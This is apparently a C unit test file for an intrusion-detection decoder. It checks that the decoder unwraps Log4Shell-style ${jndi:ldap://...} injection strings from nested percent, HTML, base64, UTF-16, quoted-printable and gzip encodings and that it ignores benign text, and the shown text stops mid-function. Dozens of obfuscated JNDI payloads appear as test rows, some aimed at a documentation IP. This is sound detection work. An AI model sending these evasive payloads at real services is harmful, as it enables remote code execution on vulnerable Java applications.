/* Tests of the peeler: which reading of an encoded text it takes, what it tells of it, and its
 * limits. (test_peel_pairs.c has the bulk.) */
#include "sensor/base/sbuf.h"
#include "signatures/peel.h"
#include "signatures/peel_gate.h"
#include "signatures/peel_glance.h"
#include "tests/unit/runner.h"

#include <stdio.h>

static struct peeler *peeler;
static struct peel_result result;

static int start(void)
{
    peeler = peeler_new();
    return peeler == NULL;
}

static int end(void)
{
    peeler_free(&peeler);
    return peeler != NULL;
}

static void peel_as(struct span text, struct peel_hints hints)
{
    (void)peel_and_evaluate(peeler, text, &hints, &result);
}

static void peel(struct span text)
{
    peel_as(text, (struct peel_hints){0});
}

static bool name_is(const char *name)
{
    return result.lookup.n_names > 0 && span_equal(result.lookup.names[0].text, span_str(name));
}

static bool encodings_are(const char *expected)
{
    struct sbuf out = sbuf_with_cap(512);
    for (size_t i = 0; i < result.encodings.n; i++) {
        sbuf_add_str(&out, i > 0 ? " " : "");
        sbuf_add_str(&out, encoding_name((enum encoding)result.encodings.ids[i]));
    }
    bool equal = span_equal(sbuf_span(&out), span_str(expected));
    if (!equal) {
        printf("encodings: %.*s\n", (int)out.len, (const char *)out.data);
    }
    sbuf_free(&out);
    return equal;
}

static bool raw_is(struct span text, const char *expected)
{
    struct span raw = span_sub(text, result.raw_off, result.raw_len);
    bool equal = span_equal(raw, span_str(expected));
    if (!equal) {
        printf("raw: %.*s\n", (int)raw.len, (const char *)raw.data);
    }
    return equal;
}

struct row {
    struct span text;
    const char *name;
    const char *encodings;
    const char *raw;
};

static void check_rows(const struct row *rows, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        peel(rows[i].text);
        bool right = result.lookup.class == LOOKUP_ATTACK && name_is(rows[i].name) &&
                     encodings_are(rows[i].encodings) && raw_is(rows[i].text, rows[i].raw) &&
                     !result.lookup.over_budget;
        if (!right) {
            printf("%.*s\n", (int)rows[i].text.len, (const char *)rows[i].text.data);
        }
        CU_ASSERT(right);
    }
}

static void what_asks_is_not_peeled(void)
{
    static const struct row rows[] = {
        {SPAN_LITERAL("x ${jndi:ldap://h/%41+&#65;\\u0041} y"), "ldap://h/%41+&#65;\\u0041", "",
         "${jndi:ldap://h/%41+&#65;\\u0041}"},
        {SPAN_LITERAL("${jndi:ldap://h/Basic/Command/Base64/JHtqbmRpOng6eX0=}"),
         "ldap://h/Basic/Command/Base64/JHtqbmRpOng6eX0=", "",
         "${jndi:ldap://h/Basic/Command/Base64/JHtqbmRpOng6eX0=}"},
    };
    check_rows(rows, ARRAY_LEN(rows));
}

/* An encoder that leaves a look-up as it is shows in the name. */
static void layers_that_only_a_name_shows(void)
{
    static const struct row rows[] = {
        {SPAN_LITERAL("a=b ${jndi:ldap://h/a?b=3D1}"), "ldap://h/a?b=1", "quoted-printable",
         "${jndi:ldap://h/a?b=3D1}"},
        {SPAN_LITERAL("${jndi:ldap://h/=C3=A4}"), "ldap://h/\xc3\xa4", "quoted-printable",
         "${jndi:ldap://h/=C3=A4}"},
        {SPAN_LITERAL("{\"a\":\"${jndi:ldap:\\/\\/h\\/b}\"}"), "ldap://h/b", "js-escape",
         "${jndi:ldap:\\/\\/h\\/b}"},
        {SPAN_LITERAL("${jndi:ldap://h/\\u00e4}"), "ldap://h/\xc3\xa4", "json-unicode",
         "${jndi:ldap://h/\\u00e4}"},
        {SPAN_LITERAL("${jndi:\\\\-ldap://h/b:-}"), "ldap://h/b", "js-escape",
         "${jndi:\\\\-ldap://h/b:-}"},
        {SPAN_LITERAL("${jndi:ldap://h/?a=1&amp;b}"), "ldap://h/?a=1&b", "html",
         "${jndi:ldap://h/?a=1&amp;b}"},
        {SPAN_LITERAL("${jndi:=6C=64ap://h=3A1/a}"), "ldap://h:1/a", "quoted-printable",
         "${jndi:=6C=64ap://h=3A1/a}"},
        {SPAN_LITERAL("${jndi:ldap%3A//h.%65xample/%41}"), "ldap://h.example/A", "percent",
         "${jndi:ldap%3A//h.%65xample/%41}"},
        {SPAN_LITERAL("${jndi:lda\xf0\x80\x81\xb0://\xe0\x81\xa8/a}"), "ldap://h/a", "overlong",
         "${jndi:lda\xf0\x80\x81\xb0://\xe0\x81\xa8/a}"},
        {SPAN_LITERAL("${jndi:ldap:&#x2f;/h/a}%{x}"), "ldap://h/a", "html",
         "${jndi:ldap:&#x2f;/h/a}"},
        {SPAN_LITERAL("${${date:&#x27;j&#x27;}ndi:x:y} ${jndi:x:z}"), "x:y", "html",
         "${${date:&#x27;j&#x27;}ndi:x:y}"},
        {SPAN_LITERAL("${jndi:ldap://h/a+-+AOQ-}"), "ldap://h/a+\xc3\xa4", "utf-7",
         "${jndi:ldap://h/a+-+AOQ-}"},
        {SPAN_LITERAL("http://h/ %24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa+b%7D"), "ldap://h/a b",
         "percent plus", "%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa+b%7D"},
        {SPAN_LITERAL("JHtqbmRpOmxkYXA6Ly9oL2E9DQpifQ=="), "ldap://h/ab", "base64 quoted-printable",
         "JHtqbmRpOmxkYXA6Ly9oL2E9DQpifQ=="},
        /* the escapes of a string, as often as it is one */
        {SPAN_LITERAL("{\"a\": \"${jndi:ldap:\\\\\\\\user/\\t\\\"}\"}"), "ldap:\\\\user/\t\"",
         "js-escape", "${jndi:ldap:\\\\\\\\user/\\t\\\"}"},
        {SPAN_LITERAL("{\"a\":\"{\\\"b\\\":\\\"${jndi:ldap:\\\\\\\\\\\\\\\\h}\\\"}\"}"),
         "ldap:\\\\h", "js-escape js-escape", "${jndi:ldap:\\\\\\\\\\\\\\\\h}"},
        {SPAN_LITERAL("eyJhIjoiJHtqbmRpOmxkYXA6XFxcXGhcblx1MDA2MX0ifQ=="), "ldap:\\\\h\na",
         "base64 json-unicode js-escape", "JHtqbmRpOmxkYXA6XFxcXGhcblx1MDA2MX0ifQ=="},
        {SPAN_LITERAL("1,\"${jndi:ldap:\\\\h}\""), "ldap:\\\\h", "", "${jndi:ldap:\\\\h}"},
        /* what nobody has to encode */
        {SPAN_LITERAL("${jndi:ldap:/\\u002fh/\\u0061}"), "ldap://h/a", "json-unicode",
         "${jndi:ldap:/\\u002fh/\\u0061}"},
        {SPAN_LITERAL("${jndi:ld\\x61p://h/\\141}"), "ldap://h/a", "js-escape",
         "${jndi:ld\\x61p://h/\\141}"},
        {SPAN_LITERAL("${jndi:ldap://&#104;/&sol;a}"), "ldap://h//a", "html",
         "${jndi:ldap://&#104;/&sol;a}"},
        {SPAN_LITERAL("${jndi:ldap:%u002f/h%c0%af}"), "ldap://h/", "percent percent-u overlong",
         "${jndi:ldap:%u002f/h%c0%af}"},
        {SPAN_LITERAL("${jndi:ldap://h/%41%20}"), "ldap://h/%41%20", "", "${jndi:ldap://h/%41%20}"},
        {SPAN_LITERAL("${jndi:ldap://h/%e2%82%ac}"), "ldap://h/%e2%82%ac", "",
         "${jndi:ldap://h/%e2%82%ac}"},
        /* not in all of the text, or of what nobody encodes */
        {SPAN_LITERAL("${jndi:ldap://h/?a=1&b=3D1}"), "ldap://h/?a=1&b=3D1", "",
         "${jndi:ldap://h/?a=1&b=3D1}"},
        {SPAN_LITERAL("${jndi:ldap://h/a+AOQb}"), "ldap://h/a+AOQb", "", "${jndi:ldap://h/a+AOQb}"},
        {SPAN_LITERAL("${jndi:ldap://h/a?b=41}"), "ldap://h/a?b=41", "", "${jndi:ldap://h/a?b=41}"},
        {SPAN_LITERAL("${jndi:ldap:\\\\h}"), "ldap:\\\\h", "", "${jndi:ldap:\\\\h}"},
        {SPAN_LITERAL("${jndi:ldap://h/\\u00e4\\-}"), "ldap://h/\\u00e4\\-", "",
         "${jndi:ldap://h/\\u00e4\\-}"},
        {SPAN_LITERAL("${jndi:ldap://h/?a&amp;b&c}"), "ldap://h/?a&amp;b&c", "",
         "${jndi:ldap://h/?a&amp;b&c}"},
        {SPAN_LITERAL("%24%7Bjndi%3Aldap://h/a+b%7D"), "ldap://h/a+b", "percent",
         "%24%7Bjndi%3Aldap://h/a+b%7D"},
    };
    check_rows(rows, ARRAY_LEN(rows));
}

/* What begins the words is escaped, but not the base64 in them. */
static void encoded_words_within_other_layers(void)
{
    static const struct row rows[] = {
        {SPAN_LITERAL("=3D?utf-8?B?JHtqbmRpOmxkYXA6Ly94?=3D =3D?utf-8?B?L2F9?=3D"), "ldap://x/a",
         "quoted-printable rfc2047", NULL},
        {SPAN_LITERAL("&#61;&#63;utf-8&#63;B&#63;JHtqbmRpOmxkYXA6Ly94&#63;&#61; "
                      "&#61;&#63;utf-8&#63;B&#63;L2F9&#63;&#61;"),
         "ldap://x/a", "html rfc2047", NULL},
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        peel(rows[i].text);
        CU_ASSERT(name_is(rows[i].name) && encodings_are(rows[i].encodings));
    }
}

/* Two characters of ASCII in front are no half of the UTF-16 behind them: read as a whole, the last
 * brace would be lost with what follows. */
static void utf16_behind_another_text(void)
{
    struct sbuf text = sbuf_with_cap(1024);
    struct span in = SPAN("${jndi:ldap://x/a} ${jndi:rmi://y/b}");
    sbuf_add_str(&text, "user=");
    for (size_t i = 0; i < in.len; i++) {
        sbuf_add_byte(&text, 0);
        sbuf_add_byte(&text, in.data[i]);
    }
    sbuf_add_str(&text, "&pass=x");
    peel(sbuf_span(&text));
    CU_ASSERT(name_is("ldap://x/a") && result.lookup.n_names == 2);
    sbuf_free(&text);
}

static void layers_of_escapes(void)
{
    static const struct row rows[] = {
        {SPAN_LITERAL("/?q=%24%7Bjndi:ldap://h/a%7D&x=%20"), "ldap://h/a", "percent",
         "%24%7Bjndi:ldap://h/a%7D"},
        {SPAN_LITERAL("%252524%25257bjndi:x:y%25257d"), "x:y", "percent percent percent",
         "%252524%25257bjndi:x:y%25257d"},
        {SPAN_LITERAL("%u0024%7bjndi:x:y}"), "x:y", "percent percent-u", "%u0024%7bjndi:x:y}"},
        {SPAN_LITERAL("%2524%7bjndi:x:y}"), "x:y", "percent percent", "%2524%7bjndi:x:y}"},
        {SPAN_LITERAL("a &#36;&lbrace;jndi:x:y&rcub b"), "x:y", "html",
         "&#36;&lbrace;jndi:x:y&rcub"},
        {SPAN_LITERAL("{\"a\":\"\\u0024{jndi:ldap:\\/\\/h\\/a}\"}"), "ldap://h/a",
         "json-unicode js-escape", "\\u0024{jndi:ldap:\\/\\/h\\/a}"},
        {SPAN_LITERAL("\\x24\\173jndi:x:y}"), "x:y", "js-escape", "\\x24\\173jndi:x:y}"},
        {SPAN_LITERAL("=24=7Bjndi:x:y=7D"), "x:y", "quoted-printable", "=24=7Bjndi:x:y=7D"},
        {SPAN_LITERAL("a ${jn=\r\ndi:x:=\r\ny} b"), "x:y", "quoted-printable",
         "${jn=\r\ndi:x:=\r\ny}"},
        {SPAN_LITERAL("\xc0\xa4\xc1\xbbjndi:x:y}"), "x:y", "overlong", "\xc0\xa4\xc1\xbbjndi:x:y}"},
        {SPAN_LITERAL("%c0%a4{jndi:x:y}"), "x:y", "percent overlong", "%c0%a4{jndi:x:y}"},
        {SPAN_LITERAL("%24\\u007Bjndi:x:y}"), "x:y", "percent json-unicode", "%24\\u007Bjndi:x:y}"},
        {SPAN_LITERAL("${jnd${upper:%C4%B1}:x:y}"), "x:y", "percent", "${jnd${upper:%C4%B1}:x:y}"},
        {SPAN_LITERAL("${jndi%3ax:y}"), "x:y", "percent", "${jndi%3ax:y}"},
        {SPAN_LITERAL("${${::-j}%6edi:x:y}"), "x:y", "percent", "${${::-j}%6edi:x:y}"},
    };
    check_rows(rows, ARRAY_LEN(rows));
}

static void layers_as_a_whole(void)
{
    static const struct row rows[] = {
        {SPAN_LITERAL("=?utf-8?Q?=24{jndi:x:y}?="), "x:y", "rfc2047", "=?utf-8?Q?=24{jndi:x:y}?="},
        {SPAN_LITERAL("=?utf-8?B?JHtq?= =?utf-8?B?bmRpOng6eX0=?="), "x:y", "rfc2047",
         "=?utf-8?B?JHtq?= =?utf-8?B?bmRpOng6eX0=?="},
        {SPAN_LITERAL("=?ibm037?Q?=5B=C0=91=95=84=89=7A=A7=7A=A8=D0?="), "x:y", "rfc2047",
         "=?ibm037?Q?=5B=C0=91=95=84=89=7A=A7=7A=A8=D0?="},
        {SPAN_LITERAL("utf-8'en'%24%7Bjndi:x:y%7D"), "x:y", "rfc2231",
         "utf-8'en'%24%7Bjndi:x:y%7D"},
        {SPAN_LITERAL("a+ACQAew-jndi:x:y+AH0-"), "x:y", "utf-7", "a+ACQAew-jndi:x:y+AH0-"},
        {SPAN_LITERAL("a\0$\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}\0b\0"), "x:y", "utf-16", NULL},
        {SPAN_LITERAL("\xfe\xff\0$\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}"), "x:y", "utf-16", NULL},
        {SPAN_LITERAL("q=abc$\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}\0&r=abcdefghijklmnopqrst"), "x:y",
         "utf-16", NULL},
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        peel(rows[i].text);
        CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_ATTACK);
        CU_ASSERT(name_is(rows[i].name));
        CU_ASSERT(encodings_are(rows[i].encodings));
        struct span raw = span_sub(rows[i].text, result.raw_off, result.raw_len);
        struct span utf16 = SPAN("$\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}");
        CU_ASSERT(rows[i].raw != NULL
                      ? raw_is(rows[i].text, rows[i].raw)
                      : span_find(raw, 0, utf16) != SPAN_NONE && raw.len <= utf16.len + 1);
    }
}

static void base64_alone_and_in_its_place(void)
{
    static const struct row rows[] = {
        {SPAN_LITERAL("user=JHtqbmRpOng6eX0=; a"), "x:y", "base64", "JHtqbmRpOng6eX0="},
        {SPAN_LITERAL("user=ACQAewBqAG4AZABpADoAeAA6AHkAfQ=="), "x:y", "base64 utf-16",
         "ACQAewBqAG4AZABpADoAeAA6AHkAfQ=="},
        {SPAN_LITERAL("J\xf0\x80\x81\x88tqb\xe0\x81\xadRpOng6eX0="), "x:y", "overlong base64",
         "J\xf0\x80\x81\x88tqb\xe0\x81\xadRpOng6eX0="},
        {SPAN_LITERAL("/path/JHtqbmRpOng6eX0/more"), "x:y", "base64", "JHtqbmRpOng6eX0/"},
        {SPAN_LITERAL("JHtqbmRpOng6Pz8_Pn0"), "x:??\?>", "base64url", "JHtqbmRpOng6Pz8_Pn0"},
        /* Only its beginning is base64: it asks in its place, not alone. */
        {SPAN_LITERAL("JHtqbmRpOg==x:y}"), "x:y", "base64", "JHtqbmRpOg==x:y}"},
    };
    check_rows(rows, ARRAY_LEN(rows));
    peel(SPAN("JHtqbmRpOmxkYXA6Ly9o"));
    CU_ASSERT(result.lookup.class == LOOKUP_CONDITIONAL && encodings_are("base64"));
}

/* Layers under base64 that leave some of its characters as they are. */
static void base64_partly_escaped(void)
{
    static const struct row rows[] = {
        {SPAN_LITERAL("JHtqbm=52pOng6eX0="), "x:y", "quoted-printable base64",
         "JHtqbm=52pOng6eX0="},
        {SPAN_LITERAL("t=JHtqbm\xc1\x92pOng6eX0="), "x:y", "overlong base64",
         "JHtqbm\xc1\x92pOng6eX0="},
        {SPAN_LITERAL("\\112Htqbm\\122pOng6eX0="), "x:y", "js-escape base64",
         "\\112Htqbm\\122pOng6eX0="},
    };
    check_rows(rows, ARRAY_LEN(rows));
}

/* An escape whose middle is escaped once more: neither layer shows a whole one. */
static void escapes_of_parts_of_escapes(void)
{
    static const struct row rows[] = {
        {SPAN_LITERAL("\\u%7b24%7d\\u%7B7b%7Djndi:x:y}"), "x:y", "percent json-unicode",
         "\\u%7b24%7d\\u%7B7b%7Djndi:x:y}"},
        {SPAN_LITERAL("%2&#52;%7&#66;jndi:x:y}"), "x:y", "html percent", "%2&#52;%7&#66;jndi:x:y}"},
        {SPAN_LITERAL("&#%33%36;&#%31%32%33;jndi:x:y}"), "x:y", "percent html",
         "&#%33%36;&#%31%32%33;jndi:x:y}"},
        {SPAN_LITERAL("=2&#52;=7&#66;jndi:x:y}"), "x:y", "html quoted-printable",
         "=2&#52;=7&#66;jndi:x:y}"},
    };
    check_rows(rows, ARRAY_LEN(rows));
}

/* Escapes of an inner layer stand beside those of the outer one: undoing the inner one alone gives
 * a look-up too, of a name that is still escaped. */
static void the_outer_layer_is_undone_too(void)
{
    static const struct row rows[] = {
        {SPAN_LITERAL("\\u0024{jndi\\u003aldap%3A\\u002f/h/a}"), "ldap://h/a",
         "percent json-unicode", "\\u0024{jndi\\u003aldap%3A\\u002f/h/a}"},
        {SPAN_LITERAL("%24{jndi:ldap://h&#58;389/a}"), "ldap://h:389/a", "percent html",
         "%24{jndi:ldap://h&#58;389/a}"},
        {SPAN_LITERAL("\\u0024{jndi:ldap://h/a%7D b"), "ldap://h/a", "percent json-unicode",
         "\\u0024{jndi:ldap://h/a%7D"},
        /* There is nothing else in it. */
        {SPAN_LITERAL("\\u0024{jndi:ldap://h/%41}"), "ldap://h/%41", "json-unicode",
         "\\u0024{jndi:ldap://h/%41}"},
    };
    check_rows(rows, ARRAY_LEN(rows));
}

/* Layers that cut, shift or half show one another. */
static void layers_in_each_others_way(void)
{
    static const struct {
        struct span text;
        const char *name;
        const char *encodings;
    } rows[] = {
        /* '=cC' is no escape */
        {SPAN_LITERAL("token=cCR7am5kaTpsZGFwOi8vMjAzLjAuMTEzLjkvYX0="), "ldap://203.0.113.9/a",
         "base64"},
        /* the groups begin late */
        {SPAN_LITERAL("/a/"
                      "JQAyADQAJQA3AEIAJQA2AEEAJQA2AEUAJQA2ADQAJQA2ADkAJQAzAEEAJQA2AEMAJQA2ADQAJQA2"
                      "ADEAJQA3ADAAJQAzAEEAJQAyAEYAJQAyAEYAJQAzADIAJQAzADAAJQAzADMAJQAyAEUAJQAzADAA"
                      "JQAyAEUAJQAzADEAJQAzADEAJQAzADMAJQAyAEUAJQAzADkAJQAyAEYAJQA2ADEAJQA3AEQA/x"),
         "ldap://203.0.113.9/a", "base64 utf-16 percent"},
        /* '/' or '+' is escaped */
        {SPAN_LITERAL("q=JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9hP2I%2BY30%3D"),
         "ldap://203.0.113.9/a?b>c", "percent base64"},
        /* folded in JSON */
        {SPAN_LITERAL("{\"a\":\"JHtqbmRpOmxkYXA6Ly8yMDMuMC4x\\r\\nMTMuOS9hfQ==\"}"),
         "ldap://203.0.113.9/a", "js-escape base64"},
        /* blanks between words, escaped */
        {SPAN_LITERAL("=?utf-8?B?JHtqbmRpOmxkYXA6Ly8yMA==?=\\r\\n =?utf-8?B?My4wLjExMy45L2F9?="),
         "ldap://203.0.113.9/a", "rfc2047"},
        {SPAN_LITERAL("=?utf-8?B?JHtqbmRpOmxkYXA6Ly8yMA==?=+=?utf-8?B?My4wLjExMy45L2F9?="),
         "ldap://203.0.113.9/a", "rfc2047"},
        /* a layer is left on */
        {SPAN_LITERAL("%24{jndi:ldap://h&period;x/a}"), "ldap://h.x/a", "percent html"},
        {SPAN_LITERAL("%24{jndi:ldap&colon;//h/a}"), "ldap://h/a", "percent html"},
        {SPAN_LITERAL("%24{jndi:ldap://h.e=\r\nx/a}"), "ldap://h.ex/a", "quoted-printable percent"},
        {SPAN_LITERAL("%24{jndi:+ldap://h/a}"), " ldap://h/a", "plus percent"},
        {SPAN_LITERAL("%5Cu%7B24%7D{jndi:ldap://h/a}"), "ldap://h/a", "percent json-unicode"},
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        peel(rows[i].text);
        bool right = result.lookup.class == LOOKUP_ATTACK && name_is(rows[i].name) &&
                     encodings_are(rows[i].encodings);
        if (!right) {
            printf("%.*s\n", (int)rows[i].text.len, (const char *)rows[i].text.data);
        }
        CU_ASSERT(right);
    }
}

/* Bytes in front that turn around what would be high and low if all were UTF-16. */
static void utf16_behind_other_bytes(void)
{
    static const struct row rows[] = {
        {SPAN_LITERAL("\xc3\xa4 \0 \0$\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}"), "x:y", "utf-16",
         "$\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}"},
        {SPAN_LITERAL("\xc3\xa4 $\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}\0 \0"), "x:y", "utf-16",
         "$\0{\0j\0n\0d\0i\0:\0x\0:\0y\0}\0"},
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        peel(rows[i].text);
        CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_ATTACK);
        CU_ASSERT(name_is(rows[i].name));
        CU_ASSERT(encodings_are(rows[i].encodings));
    }
}

/* Escapes within UTF-16 whose NULs, or all of whose bytes, are escaped again. */
static void escapes_within_escaped_utf16(void)
{
    static const char *const texts[] = {
        "%25%002%004%00{%00j%00n%00d%00i%00:%00x%00:%00y%00}%00",
        "x=%00%5C%00u%000%000%002%004%00{%00j%00n%00d%00i%00:%00x%00:%00y%00}&z",
        ("\\u0026\\u0000#\\u00003\\u00006\\u0000;\\u0000{\\u0000j\\u0000n\\u0000d\\u0000i\\u0000:"
         "\\u0000x\\u0000:\\u0000y\\u0000}\\u0000"),
        "%24%00{%00j%00n%00d%00%24%00{%00u%00p%00p%00e%00r%00:%001%01}%00:%00x%00:%00y%00}%00",
        "%00%24%00{%00j%00n%00d%00%24%00{%00u%00p%00p%00e%00r%00:%011%00}%00:%00x%00:%00y%00}",
    };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        peel(span_str(texts[i]));
        CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_ATTACK);
        CU_ASSERT(name_is("x:y"));
    }
}

/* Base64 of UTF-16 whose look-ups are not closed: neither from a wrong beginning nor with the
 * quotation mark before it as half of a character it is an attack. */
static void utf16_in_base64_is_read_once(void)
{
    static const char *const texts[] = {
        "//48AGEAPgBhACQAewBqAG4AZABpACQAewBlAG4AdgA6AHgAOgAtACQAewA6ADoALQA6AH0AbABkAH0AYQBwADoAL"
        "wAvACQAewBlAG4AdgA6AFUAUwBFAFIAfQAuAHgAPAAvAGEAPgA=",
        "\"JAB7AGQAYQB0AGUAOgAnACQAewBqAG4AZABpACQAewBsAG8AdwBlAHIAOgA6AH0AbABkAGEAcAA6AC8ALwB4AC4A"
        "ZQB4AGEAbQBwAGwAZQAvAGEAfQAkAHsAaABvAHMAdABOAGEAbQBlAH0A\"",
    };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        peel(span_str(texts[i]));
        CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_CONDITIONAL);
    }
}

/* What is zipped may have escapes in its base64, and an escape right before it. */
static void base64_of_gzip_escaped(void)
{
    static const char *const texts[] = {
        "t%20H4sIAAAAAAACA1OpzspLybSqsKqsBQAtO+qzCwAAAA%3d%3d",
        "t=H4s&#73;AAAAAAACA1OpzspLybSqsKqsBQAtO+qzCwAAAA==",
    };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        peel(span_str(texts[i]));
        CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_ATTACK);
        CU_ASSERT(name_is("x:y"));
    }
}

static void base64_of_gzip(void)
{
    peel(SPAN("H4sIAAAAAAACA1OpzspLybTK")); /* cut short: what could be inflated is looked at */
    CU_ASSERT(result.lookup.class != LOOKUP_ATTACK);
    struct span zipped =
        SPAN("H4sIAAAAAAACA1OpzspLybTKSUkssNLXNzIw1jPQMzQ01rPUr8osKEhNqQUArAZScCEAAAA=");
    peel(zipped);
    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && name_is("ldap://203.0.113.9/zipped"));
    CU_ASSERT(encodings_are("base64 gzip"));
    CU_ASSERT_EQUAL(result.raw_len, zipped.len);
}

static void base64_over_other_layers(void)
{
    /* base64 of "%24%7Bjndi:x:y%7D", and of base64 of "${jndi:x:y}" */
    peel(SPAN("JTI0JTdCam5kaTp4OnklN0Q="));
    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && encodings_are("base64 percent"));
    peel(SPAN("Skh0cWJtUnBPbmc2ZVgwPQ=="));
    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && encodings_are("base64 base64"));
    /* and of UTF-16, as some shells want it */
    peel(SPAN("JAB7AGoAbgBkAGkAOgBsAGQAYQBwADoALwAvAGgALwBhAH0A"));
    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && encodings_are("base64 utf-16"));
}

static void values_are_read_as_their_reader_does(void)
{
    struct peel_hints form = {.item = SPAN("form.q")};
    struct peel_hints query = {.field = FIELD_HTTP_URI_PARAM, .item = SPAN("q")};
    struct peel_hints path = {.field = FIELD_HTTP_URI};
    struct peel_hints json = {.item = SPAN("json.a.b")};
    struct peel_hints xml = {.item = SPAN("xml.note")};
    peel_as(SPAN("${jndi:x:a+b%20c}"), form);
    CU_ASSERT(name_is("x:a b c") && encodings_are("percent plus"));
    peel_as(SPAN("${jndi:x:a+b}"), query);
    CU_ASSERT(name_is("x:a b") && encodings_are("plus"));
    peel_as(SPAN("/a/${jndi:ldap:%2F%2Fh%2Fa+b}"), path);
    CU_ASSERT(name_is("ldap://h/a+b") && encodings_are("percent"));
    peel_as(SPAN("${jndi:ldap:\\/\\/h\\/a}"), json);
    CU_ASSERT(name_is("ldap://h/a") && encodings_are("js-escape"));
    peel_as(SPAN("${jndi:x:a&amp;b}"), xml);
    CU_ASSERT(name_is("x:a&b") && encodings_are("html"));
    CU_ASSERT(raw_is(SPAN("${jndi:x:a&amp;b}"), "${jndi:x:a&amp;b}"));
    /* What a decoder has undone is not undone again. */
    query.layers = encodings_with(query.layers, ENCODING_PERCENT);
    peel_as(SPAN("${jndi:x:a+b%41}"), query);
    CU_ASSERT(name_is("x:a+b%41") && encodings_are(""));
}

/* A reader's reading that shows nothing does not hide the value as it was sent. */
static void values_are_also_read_as_sent(void)
{
    struct peel_hints form = {.item = SPAN("form.q")};
    struct span text = SPAN("JHtqbmRpOng6Pj4+PiJ9"); /* ${jndi:x:>>>>"} */
    peel_as(text, form);
    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && name_is("x:>>>>\""));
    CU_ASSERT(encodings_are("base64"));
}

static void the_best_class_is_taken(void)
{
    /* As it stands it is conditional, decoded it asks. */
    peel(SPAN("${jndi:x:y%7d"));
    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && encodings_are("percent"));
    peel(SPAN("%24%7Bjndi:x:y"));
    CU_ASSERT(result.lookup.class == LOOKUP_CONDITIONAL && encodings_are("percent"));
    CU_ASSERT(raw_is(SPAN("%24%7Bjndi:x:y"), "%24%7Bjndi:x:y"));
    peel(SPAN("%23%7Bjndi:x:y%7d"));
    CU_ASSERT(result.lookup.class == LOOKUP_ATTEMPT && encodings_are("percent"));
    peel(SPAN("#{jndi:a} %24%7Bjndi:x:y%7d"));
    CU_ASSERT(result.lookup.class == LOOKUP_ATTACK && encodings_are("percent"));
}

/* Looks at the hits that a text of base64 has in each block; the number that found something. */
static size_t look_at_blocks(struct span text, struct peel_glance *g)
{
    size_t pattern = 0;
    size_t n = 0;
    while (peel_gate_kind(pattern) != PEEL_GATE_TWICE) {
        pattern++;
    }
    for (size_t end = 28; end <= text.len; end += 28) {
        const struct peel_hit hit = {.pattern = pattern, .text = text, .end = end};
        n += peel_glance(g, &hit);
    }
    return n;
}

/* Base64 of one letter many times is base64 of base64 wherever it is looked at, and no look comes
 * to an end before the text does: all hits are settled by one. */
static void many_hits_are_settled_at_once(void)
{
    struct peel_glance none = {{0}, {0}};
    struct peel_glance one = {{0}, {0}};
    struct sbuf text = sbuf_with_cap(1 << 16);
    for (size_t i = 0; i < 4000; i++) {
        sbuf_add_str(&text, "eHh4");
    }
    CU_ASSERT_EQUAL(look_at_blocks(sbuf_span(&text), &none), 0);
    CU_ASSERT_EQUAL(none.done[PEEL_GATE_TWICE], text.len);
    CU_ASSERT(none.walked[PEEL_GATE_TWICE] < text.len + 8 * PEEL_GLANCE_AFTER);
    sbuf_add_str(&text, "JHtqbmRpOng6eX0=");
    CU_ASSERT(look_at_blocks(sbuf_span(&text), &one) > 0);
    sbuf_free(&text);
}

static void harmless_texts(void)
{
    static const struct span rows[] = {
        SPAN_LITERAL(""),
        SPAN_LITERAL("GET /a?b=%7B%22c%22%3A%24%7Bd%7D%7D&e=%2520%253D+%26amp%3B HTTP/1.1"),
        SPAN_LITERAL("{\"html\":\"\\u003cb\\u003e${name}\\u003c/b\\u003e \\u0026 \\\\d+\"}"),
        SPAN_LITERAL("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2ln"),
        SPAN_LITERAL("jndi, ldap and ${other} things; java:comp/env/jndi"),
        SPAN_LITERAL("${jndi.name} &dollar;{x} =24 +AC \xc3\xa9"),
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        peel(rows[i]);
        CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_NONE);
        CU_ASSERT_FALSE(result.lookup.over_budget);
        CU_ASSERT_EQUAL(result.raw_len, 0);
    }
    CU_ASSERT_FALSE(peel_may_hide(rows[0]));
    CU_ASSERT_FALSE(peel_may_hide(SPAN("an ordinary line, 100% of it, a=b&c=d, ${x} ${y:-z}")));
    CU_ASSERT(peel_may_hide(SPAN("${jndi:")));
}

static void a_line_may_be_folded_within_an_escape(void)
{
    static const char *const dollars[] = {"%24",     "%u0024",   "%2524",   "&#36;", "&#0036;",
                                          "&#x24;",  "&dollar;", "\\u0024", "\\x24", "\\44",
                                          "\\u{24}", "=24",      "+ACQ-"};
    for (size_t i = 0; i < ARRAY_LEN(dollars); i++) {
        struct span dollar = span_str(dollars[i]);
        for (size_t at = 1; at < dollar.len; at++) {
